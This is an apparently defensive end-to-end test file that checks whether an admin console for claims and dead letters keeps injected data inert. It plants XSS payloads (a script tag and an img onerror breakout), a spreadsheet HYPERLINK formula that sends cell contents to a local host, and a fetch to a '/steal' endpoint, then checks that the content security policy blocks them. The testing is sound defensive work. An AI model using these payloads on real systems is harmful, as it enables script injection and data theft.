// SPDX-License-Identifier: Apache-2.0
// Texts of others that would like to be more than text: everywhere they stand as they were written (field case B105).
import assert from 'node:assert/strict';
import {CONSOLE, flow, sql, until} from './console.mjs';

const SCRIPT = "<script>document.title='owned';alert(1)</script>";
const IMAGE = '"><img src=x onerror="alert(2)">';
const FORMULA = "=HYPERLINK('http://127.0.0.1:1/?'&A1,'win')";
const quoted = (text) => `'${text.replaceAll("'", "''")}'`;

async function looksInert(at, place) {
  const found = await at.page.evaluate(() => [...document.querySelectorAll('main script, main iframe, main object, main embed, main img, dialog script, dialog img')].map((el) => el.outerHTML)
    .concat([...document.querySelectorAll('*')].flatMap((el) => el.getAttributeNames().filter((name) => name.startsWith('on') || /^\s*javascript:/i.test(el.getAttribute(name))).map((name) => `${el.localName} ${name}=${el.getAttribute(name)}`))));
  assert.deepEqual(found, [], place);
  assert.notEqual(await at.page.title(), 'owned');
}

flow('scripts, broken tags and formulas in data are text', {who: 'admin'}, async (at) => {
  sql(`select world.activity('planted', ${quoted(SCRIPT + IMAGE)}, 20, jsonb_build_object('venue', ${quoted(FORMULA)}, 'attributes', jsonb_build_object('note', ${quoted(IMAGE)}))), world.submit('planted', 1, 4)`);
  sql(`select world.letters('planted', 1, 2, 'refused', ${quoted(IMAGE)}, ${quoted(SCRIPT)}, 2), world.letters('planted', 3, 1, 'unknown', null, ${quoted(FORMULA)}, 1);
       select largesse.dead_letter_unreadable('simulator', 'unreadable', ${quoted(IMAGE)}, ${quoted(SCRIPT)})`);
  const letter = sql("select min(id) from largesse.dead_letter where activity_id = world.id('planted')");
  const claim = sql("select activity_id || '-' || min(id) from largesse.claim where activity_id = world.id('planted') group by activity_id");
  const unreadable = sql('select max(id) from largesse.dead_letter where claim_id is null');
  const places = [['now', SCRIPT], ['activities', SCRIPT], ['activities/planted', FORMULA], ['activities/planted/edit', null], [`dead-letters?activityCode=planted`, SCRIPT], ['dead-letters?view=groups', IMAGE],
    [`dead-letters/${letter}`, SCRIPT], [`dead-letters/${unreadable}`, SCRIPT], [`claims/${claim}`, null], [`claims?q=${encodeURIComponent(IMAGE)}`, IMAGE], [`log?target=${encodeURIComponent(SCRIPT)}`, null], [encodeURIComponent(SCRIPT), null], [`dead-letters?fingerprint=${encodeURIComponent(IMAGE)}&provider=${encodeURIComponent(SCRIPT)}`, null]];
  for (const [address, shown] of places) {
    await at.show(address);
    if (shown !== null) await at.page.waitForFunction((text) => document.querySelector('main').textContent.includes(text), shown);
    await looksInert(at, address);
  }
  await at.show(`dead-letters/${letter}`);
  await at.page.locator('#action-refund').click();
  await at.act(`${SCRIPT}${IMAGE}${FORMULA}`);
  await at.page.locator('#action-close').click();
  await at.page.waitForFunction((text) => document.querySelector('main').textContent.includes(text), SCRIPT);
  await looksInert(at, 'a reason');
  for (const address of ['operations', 'log', `claims/${claim}`]) {
    await at.show(address);
    await looksInert(at, address);
  }
  await at.page.locator('#search').fill(IMAGE);
  await at.page.locator('#search').press('Enter');
  await at.see('is no claim id', 'main');
  await looksInert(at, 'the search');
  await at.page.locator('#search').fill(`planted/${SCRIPT}`);
  await at.page.locator('#search').press('Enter');
  await at.page.waitForFunction(() => location.hash.includes('planted'));
  await at.there();
  await looksInert(at, 'a claim that is not there');
});

flow('a program that somebody brings into the page is not run', {}, async (at) => {
  await at.show('now');
  const ran = await at.page.evaluate(async () => {
    const inline = document.createElement('script');
    inline.textContent = 'window.owned = 1';
    document.body.append(inline);
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.owned = 2');
    image.setAttribute('src', 'data:image/png;base64,AA');
    document.body.append(image);
    await new Promise((resolve) => { image.addEventListener('error', resolve); });
    let sent = 'sent';
    await fetch('http://127.0.0.1:1/steal').catch(() => { sent = 'refused'; });
    return [window.owned ?? null, sent];
  });
  assert.deepEqual(ran, [null, 'refused']);
  for (const what of ['script-src', 'connect-src']) await until(`the policy says so: ${what}`, () => at.faults.some((fault) => fault.includes(`CSP: ${what}`)));
  at.faults.length = 0;
  const framed = await at.context.newPage();
  await framed.setContent(`<iframe src="${CONSOLE}/"></iframe>`);
  await framed.waitForFunction(() => document.querySelector('iframe') !== null);
  assert.ok(framed.frames().slice(1).every((frame) => !frame.url().startsWith(CONSOLE)));  // nor can the console be put into another page
});
